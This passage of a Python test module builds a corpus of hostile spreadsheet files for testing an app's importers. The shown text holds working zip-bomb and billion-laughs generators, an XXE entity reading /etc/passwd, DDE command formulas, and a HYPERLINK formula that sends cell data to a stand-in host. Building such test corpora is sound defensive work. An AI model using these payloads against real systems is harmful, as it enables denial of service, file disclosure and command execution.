"""A corpus of hostile spreadsheet files for the importers (issue 11).

Every file is built here, in memory and in well under a second for the lot: CSV
text with every encoding trap, workbooks written by XlsxWriter and then tampered
with part by part, and zip archives written byte by byte where the zip itself must
lie (sizes, CRCs, overlapping entries, a deflate stream of gigabytes). No file is
over 5 MB: the zip bombs are about 2 MB on disk for about 2 GB of sheet XML each.

Each file says what the reader must answer: the ``FileProblem`` code
(``jaring.sheets.readers.read_rows``) that refuses it as a whole, or ``ROWS``
when the file is read and each importer answers with its own result (row errors,
missing columns, nothing saved, or rows saved). The header row, where there is one,
names the columns of every importer at once (``HEADER``), so one file exercises the
participant, enrolment, payment, coverage and worker-count imports alike.
"""

from __future__ import annotations

import codecs
import functools
import gzip
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import xlsxwriter

ROWS = "rows"  # read: the importer answers with its own result, never a FileProblem

HEADER = [
    # participants
    "NIK", "NAMA", "TANGGAL_LAHIR", "JENIS_KELAMIN", "KODE_DESA", "PEKERJAAN", "KATEGORI",
    # enrolments
    "KODE_PROGRAM", "TANGGAL_MULAI",
    # payment confirmations (NIK above)
    "REFERENSI", "TANGGAL_BAYAR", "JUMLAH", "BULAN_DARI", "BULAN_SAMPAI",
    # coverage figures
    "KODE_WILAYAH", "TANGGAL", "PESERTA_AKTIF", "POTENSI_PEKERJA",
    # vulnerable worker counts (KODE_WILAYAH above)
    "TAHUN", "PEKERJA_RENTAN",
    # optional columns: participants, payments (NO_KPJ), coverage
    "ALAMAT", "NO_HP", "NO_KPJ", "ID_DTSEN", "DESIL", "TARGET_PERSEN",
]  # fmt: skip
ROW = [
    "1504011203850001", "Ahmad Yani", "12/03/1985", "L", "1504012003", "petani", "lainnya",
    "PRG-TIDAK-ADA", "01/01/2026",
    "REF/HOSTILE/1", "10/01/2025", "16800", "2025-01", "2025-01",
    "15.04", "2025-01-31", "100", "1000",
    "2025", "500",
    "RT 01", "081234567890", "", "", "3", "",
]  # fmt: skip
NUMBERS = [  # every column an importer reads as a number
    "JUMLAH", "PESERTA_AKTIF", "POTENSI_PEKERJA", "TAHUN", "PEKERJA_RENTAN", "DESIL", "TARGET_PERSEN",
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "=1+1",
    '=WEBSERVICE("http://contoh.invalid")',
]


@dataclass(frozen=True)
class HostileFile:
    name: str  # the file name, as an upload would be called
    family: str  # the reader's FileProblem code, or ROWS
    note: str
    build: Callable[[], bytes]

    @property
    def kind(self) -> str:
        return Path(self.name).suffix.lstrip(".")


# -- CSV --------------------------------------------------------------------------------


def _csv(rows: list[list[str]], *, delimiter: str = ",", newline: str = "\r\n") -> str:
    def cell(value: str) -> str:
        if any(ch in value for ch in (delimiter, '"', "\n", "\r")):
            return '"' + value.replace('"', '""') + '"'
        return value

    return "".join(delimiter.join(cell(v) for v in row) + newline for row in rows)


def _csv_bytes(rows: list[list[str]], **options) -> bytes:
    return _csv(rows, **options).encode()


def _with(column: str, value: str, row: list[str] = ROW) -> list[str]:
    changed = list(row)
    changed[HEADER.index(column)] = value
    return changed


def _numbers(value: str) -> list[str]:
    """ROW with ``value`` in every numeric column."""
    return [value if column in NUMBERS else cell for column, cell in zip(HEADER, ROW, strict=True)]


def _junk(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


# -- workbooks --------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"


def _workbook(rows: list[list[object]], *, header: list[str] | None = HEADER, formulas=()) -> bytes:
    """An XLSX written by XlsxWriter: the header, then rows of text (numbers for ints and
    floats); ``formulas`` are (row, column, formula, cached value) cells."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("Data")
    start = 0
    if header is not None:
        sheet.write_row(0, 0, header)
        start = 1
    for r, row in enumerate(rows, start=start):
        for c, value in enumerate(row):
            if isinstance(value, int | float):
                sheet.write_number(r, c, value)
            elif value is not None:
                sheet.write_string(r, c, value)
    for r, c, formula, cached in formulas:
        sheet.write_formula(r, c, formula, None, cached)
    book.close()
    return out.getvalue()


@functools.cache
def _base() -> bytes:
    """The plain workbook every tampered one starts from: the header and one row."""
    return _workbook([ROW])


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _rezip(
    data: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
    add: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    parts = {name: body for name, body in _parts(data).items() if name not in drop}
    parts.update(replace or {})
    parts.update(add or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def _sheet_xml(body: bytes, *, dimension: bytes | None = b"A1") -> bytes:
    """A worksheet part around ``body`` (the content of <sheetData>)."""
    declared = b'<dimension ref="' + dimension + b'"/>' if dimension is not None else b""
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        + declared
        + b"<sheetData>"
        + body
        + b"</sheetData></worksheet>"
    )


def _inline(ref: str, text: str) -> bytes:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{escaped}</t></is></c>'.encode()


def _header_row() -> bytes:
    cells = b"".join(_inline(f"{_column(i + 1)}1", title) for i, title in enumerate(HEADER))
    return b'<row r="1">' + cells + b"</row>"


def _column(number: int) -> str:
    name = ""
    while number > 0:
        number, rest = divmod(number - 1, 26)
        name = chr(65 + rest) + name
    return name


def _with_sheet(body: bytes, *, dimension: bytes | None = b"A1", header: bool = True) -> bytes:
    rows = (_header_row() if header else b"") + body
    return _rezip(_base(), replace={SHEET: _sheet_xml(rows, dimension=dimension)})


def _patched_sheet(pattern: bytes, replacement: bytes) -> bytes:
    """The base workbook with one substitution in its sheet XML."""
    sheet = _parts(_base())[SHEET]
    changed, count = re.subn(pattern, replacement, sheet, count=1)
    assert count == 1, pattern
    return _rezip(_base(), replace={SHEET: changed})


# -- zip archives written by hand -------------------------------------------------------


@dataclass
class _Entry:
    name: str
    payload: bytes  # as stored in the archive (deflated or not)
    crc: int
    size: int  # the uncompressed size declared in the headers
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    offset_of: str | None = None  # share another entry's local header (overlapping entries)


def _deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _entry(name: str, data: bytes, **overrides) -> _Entry:
    values = {"payload": _deflate(data), "crc": zlib.crc32(data), "size": len(data)}
    values.update(overrides)
    return _Entry(name=name, **values)


def _raw_zip(entries: list[_Entry]) -> bytes:
    """A zip archive exactly as described: headers may lie about sizes and CRCs, and an
    entry may point at another's data (Fifield's overlapping zip bomb)."""
    out = io.BytesIO()
    offsets: list[int] = []  # of each entry's local header, by position (names may repeat)
    for entry in entries:
        if entry.offset_of is not None:
            offsets.append(offsets[next(i for i, e in enumerate(entries) if e.name == entry.offset_of)])
            continue
        offsets.append(out.tell())
        name = entry.name.encode()
        out.write(
            struct.pack(
                "<4sHHHHHIIIHH",
                b"PK\x03\x04",
                20,
                entry.flags,
                entry.method,
                0,
                0x21,
                entry.crc,
                len(entry.payload),
                min(entry.size, 0xFFFFFFFF),
                len(name),
                0,
            )
        )
        out.write(name)
        out.write(entry.payload)
    directory = io.BytesIO()
    for entry, offset in zip(entries, offsets, strict=True):
        name = entry.name.encode()
        directory.write(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                entry.flags,
                entry.method,
                0,
                0x21,
                entry.crc,
                len(entry.payload),
                min(entry.size, 0xFFFFFFFF),
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        directory.write(name)
    start = out.tell()
    out.write(directory.getvalue())
    out.write(
        struct.pack(
            "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory.getvalue()), start, 0
        )
    )
    return out.getvalue()


def _base_entries(*, skip: tuple[str, ...] = ()) -> list[_Entry]:
    return [_entry(name, body) for name, body in _parts(_base()).items() if name not in skip]


# CRC-32 of a block repeated many times without reading gigabytes: zlib's
# crc32_combine (GF(2) matrix powers), which Python's zlib module does not expose.


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, row = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    if length2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = _gf2_square(even)
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
        if not length2:
            break
    return crc1 ^ crc2


def _crc_repeated(block: bytes, times: int) -> tuple[int, int]:
    """(CRC-32, length) of ``block * times``, by doubling."""
    crc, length = 0, 0
    power_crc, power_length = zlib.crc32(block), len(block)
    while times:
        if times & 1:
            crc, length = crc32_combine(crc, power_crc, power_length), length + power_length
        power_crc, power_length = crc32_combine(power_crc, power_crc, power_length), power_length * 2
        times >>= 1
    return crc, length


def _flushed(data: bytes, *, final: bool = False) -> bytes:
    """``data`` deflated from a fresh dictionary, ending on a byte boundary: such pieces
    concatenate into one valid deflate stream."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)


def _bomb_sheet(unit: bytes, total: int, *, head: bytes, tail: bytes) -> tuple[bytes, int, int]:
    """A deflated worksheet of ``head + unit * n + tail`` about ``total`` bytes long:
    (deflated bytes, CRC-32, inflated size). A 1 MiB block is deflated once and repeated."""
    block = unit * ((1 << 20) // len(unit))
    times = max(total // len(block), 1)
    deflated_block = _flushed(block)
    crc, size = zlib.crc32(head), len(head)
    body_crc, body_size = _crc_repeated(block, times)
    crc, size = crc32_combine(crc, body_crc, body_size), size + body_size
    crc, size = crc32_combine(crc, zlib.crc32(tail), len(tail)), size + len(tail)
    return _flushed(head) + deflated_block * times + _flushed(tail, final=True), crc, size


_BOMB_HEAD = _sheet_xml(b"<row>", dimension=None).split(b"<row>")[0] + b"<row>"
_BOMB_TAIL = b"</row></sheetData></worksheet>"


def _zip_bomb(*, honest: bool, total: int = 1900 << 20) -> bytes:
    """Cells without references in one row (each one column right of the last): calamine
    would build a 1 x 500-million-cell range. ``honest`` declares the real size."""
    payload, crc, size = _bomb_sheet(b"<c/>", total, head=_BOMB_HEAD, tail=_BOMB_TAIL)
    sheet = _Entry(SHEET, payload, crc, size if honest else 4096)
    return _raw_zip([*_base_entries(skip=(SHEET,)), sheet])


def _overlapping_bomb(copies: int = 16) -> bytes:
    """One 1.9 GB kernel that every sheet entry points at: 30 GB declared from 2 MB."""
    payload, crc, size = _bomb_sheet(b"<c/>", 1900 << 20, head=_BOMB_HEAD, tail=_BOMB_TAIL)
    kernel = _Entry(SHEET, payload, crc, size)
    others = [
        _Entry(f"xl/worksheets/sheet{n}.xml", payload, crc, size, offset_of=SHEET)
        for n in range(2, copies + 1)
    ]
    return _raw_zip([*_base_entries(skip=(SHEET,)), kernel, *others])


def _lying_overlap(copies: int = 400) -> bytes:
    """Overlapping entries that each declare 4 KB: only inflating them shows 100 MB each."""
    payload, crc, _size = _bomb_sheet(b"<row/>", 100 << 20, head=_BOMB_HEAD[:-5], tail=_BOMB_TAIL[6:])
    kernel = _Entry("xl/media/image1.bin", payload, crc, 4096)
    others = [
        _Entry(f"xl/media/image{n}.bin", payload, crc, 4096, offset_of="xl/media/image1.bin")
        for n in range(2, copies + 1)
    ]
    return _raw_zip([*_base_entries(), kernel, *others])


def _lying_bomb(unit: bytes, total: int, *, row: bytes = b"") -> bytes:
    """A sheet of ``unit`` repeated (inside ``row`` if given) declaring 4 KB."""
    head, tail = _BOMB_HEAD[:-5] + row, (b"</row>" if row else b"") + _BOMB_TAIL[6:]
    payload, crc, _size = _bomb_sheet(unit, total, head=head, tail=tail)
    return _raw_zip([*_base_entries(skip=(SHEET,)), _Entry(SHEET, payload, crc, 4096)])


def _many_parts(count: int = 10_001) -> bytes:
    extra = [_Entry(f"xl/media/p{n}.bin", b"", 0, 0, method=zipfile.ZIP_STORED) for n in range(count)]
    return _raw_zip([*_base_entries(), *extra])


def _encrypted() -> bytes:
    """Every part flagged as encrypted (traditional PKWARE encryption)."""
    return _raw_zip([_Entry(e.name, e.payload, e.crc, e.size, flags=0x1) for e in _base_entries()])


def _bad_crc() -> bytes:
    return _raw_zip(
        [
            _Entry(e.name, e.payload, e.crc ^ 0xFFFF if e.name == SHEET else e.crc, e.size)
            for e in _base_entries()
        ]
    )


def _duplicate_entry() -> bytes:
    """The sheet twice: a harmless one first, then one reaching XFD1048576."""
    far = _sheet_xml(_header_row() + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    return _raw_zip([*_base_entries(), _entry(SHEET, far)])


# -- other formats ----------------------------------------------------------------------


def _docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"/>',
        )
        archive.writestr("word/document.xml", "<w:document><w:body><w:p>NIK</w:p></w:body></w:document>")
    return out.getvalue()


def _ods() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(
            "content.xml",
            '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
            'opendocument:xmlns:office:1.0"><office:body><office:spreadsheet/></office:body>'
            "</office:document-content>",
            compress_type=zipfile.ZIP_DEFLATED,
        )
    return out.getvalue()


def _ods_with_workbook() -> bytes:
    """An OpenDocument sheet that also carries an xl/workbook.xml, to fool a name check."""
    return _rezip(_base(), add={"content.xml": b"<office:document-content/>", "mimetype": b"x"})


def _ole(body: bytes) -> bytes:
    """An OLE compound-file header (old .xls, or an encrypted .xlsx) with ``body`` after it."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9)
    return header + bytes(512 - len(header)) + body


def _encrypted_package() -> bytes:
    """What Excel writes for a password-protected .xlsx: an OLE file holding
    'EncryptionInfo' and 'EncryptedPackage' streams (here only their names)."""
    names = "EncryptionInfo".encode("utf-16-le") + bytes(50) + "EncryptedPackage".encode("utf-16-le")
    return _ole(names + _junk(4096, 7))


def _utf16_xml_sheet() -> bytes:
    """The sheet part in UTF-16: byte patterns of references and DOCTYPE are invisible."""
    text = (
        _sheet_xml(
            _header_row() + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
            dimension=b"A1:XFD1048576",
        )
        .decode()
        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
    )
    return _rezip(_base(), replace={SHEET: codecs.BOM_UTF16_LE + text.encode("utf-16-le")})


def _shared_strings(unique: bytes, body: bytes = b"<si><t>NIK</t></si>") -> bytes:
    return _rezip(
        _base(),
        replace={
            STRINGS: b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main" count="1" uniqueCount="' + unique + b'">' + body + b"</sst>"
        },
    )


def _entities(part: str, declaration: bytes) -> bytes:
    body = _parts(_base())[part]
    head, _, rest = body.partition(b"?>")
    return _rezip(_base(), replace={part: head + b"?>" + declaration + rest})


BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>"
)


def _billion_laughs_in_cell() -> bytes:
    sheet = _parts(_base())[SHEET]
    head, _, rest = sheet.partition(b"?>")
    rest = rest.replace(
        b"</sheetData>", b'<row r="3"><c r="A3" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>'
    )
    return _rezip(_base(), replace={SHEET: head + b"?>" + BILLION_LAUGHS + rest})


def _styled(num_format: str, value: str) -> bytes:
    """Row 2 holds the number ``value`` in every column, formatted with ``num_format``
    (calamine turns such cells into dates, times or durations, or fails on them)."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEADER)
    style = book.add_format({"num_format": num_format})
    for column in range(len(HEADER)):
        sheet.write_number(1, column, 1.0, style)
    book.close()
    data = out.getvalue()
    sheet_xml = re.sub(
        rb'(<c r="[A-Z]+2" s="\d+"><v>)1(</v>)', rb"\g<1>" + value.encode() + rb"\g<2>", _parts(data)[SHEET]
    )
    return _rezip(data, replace={SHEET: sheet_xml})


def _corpus() -> list[HostileFile]:
    f = HostileFile
    header = _csv_bytes([HEADER])
    files = [
        # empty and next to empty
        f("kosong.csv", "file_empty", "0 bytes", lambda: b""),
        f("kosong.xlsx", "file_empty", "0 bytes named .xlsx", lambda: b""),
        f("hanya-bom.csv", "file_empty", "a UTF-8 BOM and nothing else", lambda: codecs.BOM_UTF8),
        f("baris-kosong.csv", "file_empty", "blank lines, spaces, separators", lambda: b"\r\n \n,,;;\n\t\n"),
        f(
            "baris-kosong-lalu-data.csv",
            ROWS,
            "5,000 blank lines, then the header and a row",
            lambda: b"\r\n" * 5000 + header + _csv_bytes([ROW]),
        ),
        f("hanya-judul.csv", ROWS, "the header and no row", lambda: header),
        f("hanya-judul.xlsx", ROWS, "the header and no row", lambda: _workbook([])),
        f(
            "seratus-ribu-baris-kosong.csv",
            ROWS,
            "the header, then 100,000 empty lines",
            lambda: header + b"\r\n" * 100_000,
        ),
        f(
            "lembar-kosong.xlsx",
            "file_empty",
            "a workbook whose sheet has no cell",
            lambda: _workbook([], header=None),
        ),
        f(
            "tanpa-lembar.xlsx",
            "file_no_sheet",
            "a workbook listing no sheet",
            lambda: _rezip(
                _base(),
                replace={
                    "xl/workbook.xml": re.sub(
                        rb"<sheets>.*</sheets>", b"<sheets/>", _parts(_base())["xl/workbook.xml"]
                    )
                },
            ),
        ),
        # not a spreadsheet at all
        f("acak.csv", "file_not_spreadsheet", "64 KB of random bytes", lambda: _junk(65_536, 1)),
        f("acak.xlsx", "file_not_spreadsheet", "random bytes named .xlsx", lambda: _junk(4096, 2)),
        f(
            "laporan.pdf.xlsx",
            "file_not_spreadsheet",
            "a PDF renamed",
            lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n" + _junk(2048, 3),
        ),
        f(
            "foto.png.xlsx",
            "file_not_spreadsheet",
            "a PNG renamed",
            lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + _junk(2048, 4),
        ),
        f(
            "foto.jpg.csv",
            "file_not_spreadsheet",
            "a JPEG renamed",
            lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF" + _junk(1024, 5),
        ),
        f(
            "peserta.csv.gz",
            "file_not_spreadsheet",
            "a gzipped CSV",
            lambda: _gzip(header + _csv_bytes([ROW])),
        ),
        f(
            "arsip.rar.xlsx",
            "file_not_spreadsheet",
            "a RAR archive renamed",
            lambda: b"Rar!\x1a\x07\x01\x00" + _junk(512, 6),
        ),
        f("dokumen.docx.xlsx", "file_not_spreadsheet", "a Word document renamed", _docx),
        f("lembar.ods.xlsx", "file_not_spreadsheet", "an OpenDocument sheet renamed", _ods),
        f(
            "ods-dengan-workbook.xlsx",
            "file_not_spreadsheet",
            "content.xml next to xl/workbook.xml",
            _ods_with_workbook,
        ),
        f(
            "zip-kosong.xlsx",
            "file_not_spreadsheet",
            "an empty zip archive (end record only)",
            lambda: b"PK\x05\x06" + bytes(18),
        ),
        f(
            "zip-tanpa-workbook.xlsx",
            "file_not_spreadsheet",
            "a zip without xl/workbook.xml",
            lambda: _rezip(_base(), drop=("xl/workbook.xml",)),
        ),
        f(
            "biner-xlsb.xlsx",
            "file_not_spreadsheet",
            "a binary workbook (xl/workbook.bin) renamed",
            lambda: _rezip(_base(), drop=("xl/workbook.xml",), add={"xl/workbook.bin": _junk(256, 8)}),
        ),
        # broken zips
        f(
            "terpotong.xlsx",
            "file_corrupt",
            "the first half of a workbook",
            lambda: _base()[: len(_base()) // 2],
        ),
        f(
            "terpotong-ujung.xlsx",
            "file_corrupt",
            "a workbook without its last 30 bytes",
            lambda: _base()[:-30],
        ),
        f("crc-salah.xlsx", "file_corrupt", "the sheet's CRC-32 does not match", _bad_crc),
        f(
            "direktori-palsu.xlsx",
            "file_corrupt",
            "the central directory points past the end",
            lambda: _base()[:-6] + struct.pack("<I", 0x7FFFFFF0) + b"\x00\x00",
        ),
        f("bersandi-zip.xlsx", "file_unreadable", "every part flagged as encrypted", _encrypted),
        f(
            "bzip2.xlsx",
            "file_unreadable",
            "parts compressed with bzip2 (method 12)",
            lambda: _rezip(_base(), compression=zipfile.ZIP_BZIP2),
        ),
        f("sepuluh-ribu-bagian.xlsx", "file_unreadable", "10,001 empty parts", _many_parts),
        # old Excel and password protection (OLE compound files)
        f("lama.xls", "file_unreadable", "an OLE header and junk", lambda: _ole(_junk(4096, 9))),
        f("lama-kosong.xls", "file_unreadable", "an OLE header alone", lambda: _ole(b"")),
        f("bersandi.xlsx", "file_unreadable", "Excel's encrypted package (OLE)", _encrypted_package),
        # zip bombs
        f(
            "bom-zip.xlsx",
            "file_too_large_unpacked",
            "1.9 GB sheet, honest sizes, 2 MB file (calamine would parse it for 90 s)",
            lambda: _zip_bomb(honest=True),
        ),
        f(
            "bom-zip-bohong.xlsx",
            "file_corrupt",
            "1.9 GB sheet declaring 4 KB",
            lambda: _zip_bomb(honest=False),
        ),
        f(
            "bom-zip-tumpang.xlsx",
            "file_too_large_unpacked",
            "16 entries sharing one 1.9 GB kernel",
            _overlapping_bomb,
        ),
        f(
            "bom-zip-tumpang-bohong.xlsx",
            "file_corrupt",
            "400 entries sharing one 100 MB kernel, each declaring 4 KB",
            _lying_overlap,
        ),
        f(
            "bom-sel-berreferensi-bohong.xlsx",
            "file_corrupt",
            "300 MB of cells all at A1 (every reference in bounds), declaring 4 KB",
            lambda: _lying_bomb(b'<c r="A1" t="n"><v>1234567890</v></c>', 300 << 20, row=b'<row r="1">'),
        ),
        f(
            "bom-spasi-bohong.xlsx",
            "file_corrupt",
            "300 MB of unknown tags and text between rows, declaring 4 KB",
            lambda: _lying_bomb(b"<x/>" + b"x" * 1020, 300 << 20),
        ),
        f(
            "bom-tanpa-tag-bohong.xlsx",
            "file_corrupt",
            "1 GB of spaces without a single '<', declaring 4 KB",
            lambda: _lying_bomb(b" ", 1 << 30),
        ),
        f(
            "bom-sel-kecil.xlsx",
            "too_many_columns",
            "80 MB of cells without references in one row (under the bomb floor)",
            lambda: _raw_zip(
                [
                    *_base_entries(skip=(SHEET,)),
                    _Entry(SHEET, *_bomb_sheet(b"<c/>", 80 << 20, head=_BOMB_HEAD, tail=_BOMB_TAIL)),
                ]
            ),
        ),
        f(
            "bom-baris-kecil.xlsx",
            "too_many_rows",
            "80 MB of rows without references",
            lambda: _raw_zip(
                [
                    *_base_entries(skip=(SHEET,)),
                    _Entry(
                        SHEET, *_bomb_sheet(b"<row/>", 80 << 20, head=_BOMB_HEAD[:-5], tail=_BOMB_TAIL[6:])
                    ),
                ]
            ),
        ),
        f(
            "tag-panjang.xlsx",
            "file_unreadable",
            "one 6 MB attribute (no '<' for 6 MB)",
            lambda: _with_sheet(b'<row r="2"><c r="A2" x="' + b"a" * (6 << 20) + b'"><v>1</v></c></row>'),
        ),
        # huge dimensions
        f(
            "dimensi-xfd.xlsx",
            "too_many_columns",
            "declares A1:XFD1048576, holds the header",
            lambda: _with_sheet(b"", dimension=b"A1:XFD1048576"),
        ),
        f(
            "sel-xfd1048576.xlsx",
            "too_many_columns",
            "the issue's file: dimension A1:XFD1048576 and one cell at XFD1048576",
            lambda: _with_sheet(
                b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
                dimension=b"A1:XFD1048576",
                header=False,
            ),
        ),
        f(
            "sel-xfd-tanpa-dimensi.xlsx",
            "too_many_columns",
            "the header from A1 and a cell at XFD1048576: calamine 0.9 would ask for 512 GiB and abort",
            lambda: _with_sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', dimension=None),
        ),
        f(
            "sel-xfd-kutip-tunggal.xlsx",
            "too_many_columns",
            "r='XFD1048576' in single quotes, spaces around '='",
            lambda: _with_sheet(
                b"<row r = '1048576'><c t='n' r = 'XFD1048576'><v>1</v></c></row>", dimension=None
            ),
        ),
        f(
            "sel-berawalan.xlsx",
            "too_many_columns",
            "namespace-prefixed tags reaching XFD",
            lambda: _with_sheet(
                b'<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="9">'
                b'<x:c r="XFD9"><x:v>1</x:v></x:c></x:row>',
                dimension=None,
            ),
        ),
        f(
            "baris-1048576.xlsx",
            "too_many_cells",
            "20 columns and a cell in row 1,048,576 (21 million cells)",
            lambda: _with_sheet(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>', dimension=None),
        ),
        f(
            "baris-melebihi-excel.xlsx",
            "too_many_rows",
            "a row beyond Excel's 1,048,576",
            lambda: _with_sheet(b'<row r="2000000"><c r="A2000000"><v>1</v></c></row>', dimension=None),
        ),
        f(
            "baris-raksasa.xlsx",
            "too_many_rows",
            "a reference to row 99,999,999,999 (past 32 bits)",
            lambda: _with_sheet(
                b'<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>', dimension=None
            ),
        ),
        f(
            "kolom-empat-huruf.xlsx",
            "too_many_columns",
            "a reference with four column letters (AAAA2)",
            lambda: _with_sheet(b'<row r="2"><c r="AAAA2"><v>1</v></c></row>', dimension=None),
        ),
        f(
            "sel-tanpa-referensi.xlsx",
            "too_many_columns",
            "a row of 300 cells without r attributes",
            lambda: _with_sheet(b"<row>" + b"<c><v>1</v></c>" * 300 + b"</row>", dimension=None),
        ),
        f(
            "dimensi-raksasa-saja.xlsx",
            "too_many_rows",
            "a small sheet declaring A1:A99999999",
            lambda: _with_sheet(b"", dimension=b"A1:A99999999"),
        ),
        f(
            "seribu-kolom.xlsx",
            "too_many_columns",
            "1,000 columns",
            lambda: _workbook([[f"x{i}" for i in range(1000)]]),
        ),
        f(
            "teks-bersama-raksasa.xlsx",
            "too_many_cells",
            "shared strings declaring uniqueCount 4,000,000,000: calamine would reserve 96 GB and abort",
            lambda: _shared_strings(b"4000000000"),
        ),
        f(
            "teks-bersama-negatif.xlsx",
            "file_unreadable",
            "shared strings declaring uniqueCount -1",
            lambda: _shared_strings(b"-1"),
        ),
        f(
            "lembar-utf16.xlsx",
            "file_unreadable",
            "the sheet XML in UTF-16, reaching XFD1048576",
            _utf16_xml_sheet,
        ),
        f(
            "bagian-ganda.xlsx",
            "too_many_columns",
            "the sheet part twice, the second reaching XFD1048576",
            _duplicate_entry,
        ),
        # XML declarations
        f(
            "billion-laughs.xlsx",
            "file_xml_entities",
            "nested entities in the sheet, used in a cell",
            _billion_laughs_in_cell,
        ),
        f(
            "xxe-teks-bersama.xlsx",
            "file_xml_entities",
            "an external entity (file:///etc/passwd) in sharedStrings.xml",
            lambda: _entities(STRINGS, b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
        ),
        f(
            "doctype-content-types.xlsx",
            "file_xml_entities",
            "a DOCTYPE in [Content_Types].xml",
            lambda: _entities("[Content_Types].xml", b"<!doctype Types>"),
        ),
        f(
            "entity-workbook.xlsx",
            "file_xml_entities",
            "a parameter entity in workbook.xml",
            lambda: _entities(
                "xl/workbook.xml", b'<!DOCTYPE w [<!ENTITY % p SYSTEM "http://contoh.invalid/x">%p;]>'
            ),
        ),
        # cells
        f(
            "rumus.xlsx",
            ROWS,
            "formula cells (HYPERLINK, DDE cmd, WEBSERVICE) with cached values",
            lambda: _workbook(
                [ROW],
                formulas=[(1, i, formula, "=" + str(i)) for i, formula in enumerate(FORMULAS)]
                + [(1, 14, "=1504", 1504)],
            ),
        ),
        f(
            "rumus-sebagai-teks.xlsx",
            ROWS,
            "text cells that look like formulas",
            lambda: _workbook([FORMULAS]),
        ),
        f(
            "sel-besar.xlsx",
            "cell_too_long",
            "a 200,000-character name cell",
            lambda: _with_sheet(
                b'<row r="2">' + _inline("A2", ROW[0]) + _inline("B2", "A" * 200_000) + b"</row>"
            ),
        ),
        f(
            "tanggal-mustahil.xlsx",
            ROWS,
            "every cell date-formatted, holding serial 1e308",
            lambda: _styled("dd/mm/yyyy", "1E308"),
        ),
        f(
            "tanggal-negatif.xlsx",
            ROWS,
            "every cell date-formatted, holding serial -99999999",
            lambda: _styled("dd/mm/yyyy", "-99999999"),
        ),
